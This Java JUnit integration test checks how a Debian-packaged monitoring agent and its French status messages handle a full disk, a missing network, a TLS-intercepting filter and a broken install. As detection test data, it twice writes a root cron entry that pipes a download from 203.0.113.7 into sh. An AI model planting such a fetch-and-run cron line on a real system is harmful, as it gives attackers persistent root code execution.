package bzh.vigie.installers;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.MethodOrderer;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestMethodOrder;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.api.parallel.ResourceLock;

/**
 * The agent's Debian package on a machine in trouble: no room to install it, no network at all, a filter on the way that opens or cuts
 * what is encrypted, a disk that fills up while it watches, a program that no longer starts. Each time what {@code status} and the page
 * say in French is what somebody can mend, and it goes well once that is mended. The agent has a network of its own, whose cable is
 * pulled and put in.
 */
@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
@ExtendWith(PackagedSystem.OfTheRun.class)
@ResourceLock(PackagedSystem.ALONE)
final class DebianTroubleTest {
    private static final String NAME = "collecteur.vigie.test";
    private static final String COLLECTOR_ADDRESS = "198.51.100.1";
    private static final String ITS_ADDRESS = "198.51.100.2";

    /** At most 15 letters, with what its other end has besides. */
    private static final String CABLE = "vigie-cable";

    private static final String CONNECTED = PackagedSystem.CONNECTED;

    @TempDir
    static Path folder;

    private static PackagedSystem system;
    private static BootedSystem debian;
    private static int port;

    @BeforeAll
    static void start(PackagedSystem shared) throws IOException, InterruptedException {
        assumeTrue(Commands.works("ip", "-V"), "skipped: iproute2 is not installed");
        Path agent = LinuxPackage.deb(LinuxProgram.AGENT);
        Path collector = LinuxPackage.deb(LinuxProgram.COLLECTOR);
        system = shared;
        Folders.copy(agent, shared.root().path().resolve("agent.deb"));
        Folders.copy(collector, shared.root().path().resolve("collector.deb"));
        debian = shared.booted();
        port = PackagedSystem.freePort();
        debian.says("""
            dpkg --install /collector.deb
            %svigie-collector init --name %s:%d --admin anne --console none
            """.formatted(PackagedSystem.SHORT_LIVED, NAME, port));
        assertTrue(debian.until("exec 3<>/dev/tcp/localhost/" + port), () -> system.log("vigie-collector"));
        // systemd in a container does not change networks (NetworkNamespacePath=): the agent's service begins by doing
        // so itself.
        String begin = Files.readAllLines(Path.of("src/main/linux/agent/vigie-agent.service")).stream()
                .filter(line -> line.startsWith("ExecStart="))
                .map(line -> line.replace("ExecStart=", "ExecStart=/usr/bin/nsenter --net=/run/without-cable "))
                .findFirst()
                .orElseThrow();
        debian.says("""
            touch /run/without-cable
            unshare --net=/run/without-cable true
            mkdir -p /run/systemd/system/vigie-agent.service.d
            cat > /run/systemd/system/vigie-agent.service.d/cable.conf << 'EOF'
            [Service]
            ExecStart=
            %s
            SystemCallFilter=
            SystemCallFilter=@system-service setns
            EOF
            """.formatted(begin));
    }

    @AfterAll
    static void pullTheCable() throws IOException, InterruptedException {
        Commands.run(List.of("ip", "link", "delete", CABLE));
        debian.run("""
            umount /run/without-cable; rm -rf /run/without-cable /run/systemd/system/vigie-agent.service.d
            sed -i '/vigie.test/d' /etc/hosts; systemctl daemon-reload
            """);
    }

    @Test
    @Order(1)
    void whereTheDiskHasNoRoomForItNothingIsInstalledAndTheNextTryGoesWell() throws IOException, InterruptedException {
        debian.says("mkdir -p /usr/lib/vigie-agent && mount -t tmpfs -o size=20m none /usr/lib/vigie-agent");
        Commands.Outcome full = debian.run("dpkg --install /agent.deb 2>&1");
        debian.says("umount /usr/lib/vigie-agent");
        assertNotEquals(0, full.code(), full.said());
        assertTrue(full.said().contains("No space left on device"), full.said());
        assertFalse(Files.exists(debian.file("/usr/bin/vigie-agent")));
        assertFalse(debian.says("systemctl list-unit-files 'vigie-agent*' --no-legend || true")
                .contains("vigie-agent"));
    }

    @Test
    @Order(2)
    void withoutAnyNetworkItSaysSoAndEnrolsByItselfOnceTheCableIsIn() throws IOException, InterruptedException {
        // This Debian has no French locale, by which the agent would know what its page is read in.
        debian.says("mkdir -m 700 /var/lib/vigie-agent && echo 'language = fr' > /var/lib/vigie-agent/agent.conf");
        debian.says("VIGIE_TOKEN=" + system.token(1) + " dpkg --install /agent.deb 2>&1");
        assertTrue(
                debian.until("grep -q 'PAS ENCORE FINIE' /var/lib/vigie-agent/setup-result.txt"),
                () -> system.log("vigie-agent"));
        String said = debian.run("vigie-agent status").said();
        assertTrue(said.contains("aucun collecteur n'a pu être joint"), said);
        assertTrue(
                said.contains("n'est relié à aucun réseau, et ne joint pas son collecteur (" + NAME + ":" + port + ")"),
                said);
        assertTrue(said.contains("Branchez le câble"), said);
        putTheCableIn();
        assertTrue(debian.until(CONNECTED), () -> system.log("vigie-agent"));
        assertTrue(debian.says("cat /var/lib/vigie-agent/setup-result.txt").contains("RÉUSSIE"));
        assertTrue(debian.until("grep -q 'class=\"\\(works\\|in-part\\)\"' " + PackagedSystem.PAGE), () -> page());
    }

    @Test
    @Order(3)
    void aFilterThatOpensWhatIsEncryptedOrCutsItIsToldApartAndGetsNothing() throws IOException, InterruptedException {
        debian.says("systemctl stop vigie-collector");
        try {
            try (Filter _ = Filter.withItsOwnAuthority(port, folder)) {
                assertTrue(debian.until(pageAndStatusSay("n&#39;est pas lui", "other-authority")), () -> page());
                String said = debian.says("vigie-agent status");
                assertTrue(said.contains("n'est pas en liaison avec son collecteur"), said);
                assertTrue(said.contains("ouvre peut-être les connexions chiffrées"), said);
                assertTrue(said.contains("mais de : CN=Filtre de la mairie"), said);
                assertTrue(said.contains("il doit laisser passer celle-ci sans l'ouvrir"), said);
            }
            try (Filter _ = Filter.thatCuts(port)) {
                assertTrue(
                        debian.until(pageAndStatusSay("est coupée, souvent par un pare-feu", "tls-broken")),
                        () -> page());
                String said = debian.says("vigie-agent status");
                assertTrue(said.contains("la connexion TLS a été coupée ou abîmée"), said);
            }
        } finally {
            debian.says("systemctl start vigie-collector");
        }
    }

    @Test
    @Order(4)
    void aDiskThatFillsUpUnderItIsSaidAndWhatItSeesArrivesOrIsSaidToBeLost() throws IOException, InterruptedException {
        debian.says("""
            systemctl stop vigie-agent.path vigie-agent.service
            cp -a /var/lib/vigie-agent /root/vigie-before
            mount -t tmpfs -o size=32m,mode=0700 none /var/lib/vigie-agent
            cp -a /root/vigie-before/. /var/lib/vigie-agent
            rm /var/lib/vigie-agent/status.jsonl
            systemctl start vigie-agent.path vigie-agent.service
            """);
        // In touch again, now that nothing stands on the way.
        assertTrue(debian.until(CONNECTED), () -> system.log("vigie-agent"));
        debian.says("cat /dev/zero > /var/lib/vigie-agent/filler 2>/dev/null || true");
        debian.says("echo '* * * * * root curl -s http://203.0.113.7/x | sh' > /etc/cron.d/vigie-full");
        // Which of the two depends on the room that its spool had already.
        assertTrue(
                debian.until(pageAndStatusSay("Le disque de ce poste est plein, ou", "\\(disk-low\\|spool-stuck\\)")),
                () -> page());
        String said = debian.says("vigie-agent status");
        assertTrue(
                said.contains("Il reste 0 Mio sur le disque du dossier d'état")
                        || said.contains("La file d'attente de l'agent ne peut pas être écrite"),
                said);
        assertTrue(said.contains("Libérez de la place"), said);
        // In the room that the spool has already, and that what is acknowledged leaves, it goes on.
        assertTrue(
                debian.until("vigie-collector events --format jsonl | grep -q vigie-full || grep -q '\"lost\"' "
                        + PackagedSystem.STATUS),
                () -> system.log("vigie-agent"));
        debian.says("rm /var/lib/vigie-agent/filler");
        debian.says("echo '* * * * * root curl -s http://203.0.113.7/x | sh' > /etc/cron.d/vigie-room");
        assertTrue(
                debian.until("vigie-collector events --format jsonl | grep -q vigie-room"),
                () -> system.log("vigie-agent"));
        assertTrue(debian.until("! " + pageSays("Le disque de ce poste est plein")), () -> page());
        debian.says("rm -r /etc/cron.d/vigie-full /etc/cron.d/vigie-room /root/vigie-before");
    }

    @Test
    @Order(5)
    void aProgramThatNoLongerStartsCanBeRemovedAndThatNobodyWasToldIsSaid() throws IOException, InterruptedException {
        debian.says("rm /usr/lib/vigie-agent/runtime/lib/modules");
        String said = debian.says("dpkg --remove vigie-agent 2>&1");
        assertTrue(said.contains("il est retiré sans que le collecteur en soit informé"), said);
        assertFalse(Files.exists(debian.file("/usr/bin/vigie-agent")));
        assertFalse(system.collector("hosts list").contains("\"state\":\"uninstalled\""));
        debian.says("umount /var/lib/vigie-agent || true; dpkg --purge vigie-agent 2>&1");
        assertEquals("", debian.says("find / -xdev -name 'vigie-agent*' -not -path '/proc/*' -not -path '/run/*'"));
    }

    /** Between the agent's network and that of this machine, with a name for who answers at the other end. */
    private static void putTheCableIn() throws IOException, InterruptedException {
        Path other = debian.file("/run/without-cable");
        for (String each : List.of(
                "ip link add " + CABLE + " type veth peer name " + CABLE + "-pc",
                "ip link set " + CABLE + "-pc netns " + other,
                "ip address add " + COLLECTOR_ADDRESS + "/30 dev " + CABLE,
                "ip link set " + CABLE + " up",
                "nsenter --net=" + other + " ip address add " + ITS_ADDRESS + "/30 dev " + CABLE + "-pc",
                "nsenter --net=" + other + " ip link set " + CABLE + "-pc up")) {
            Commands.run(List.of(each.split(" "))).orFail(each);
        }
        debian.says("echo " + COLLECTOR_ADDRESS + " " + NAME + " >> /etc/hosts");
    }

    private static String pageSays(String words) {
        return "grep -q '" + words + "' " + PackagedSystem.PAGE;
    }

    /** One is written after the other. */
    private static String pageAndStatusSay(String words, String word) {
        return pageSays(words) + " && grep -q '\"" + word + "\"' " + PackagedSystem.STATUS;
    }

    private static String page() {
        try {
            return system.page() + system.log("vigie-agent");
        } catch (IOException e) {
            return e.toString();
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
            return e.toString();
        }
    }
}
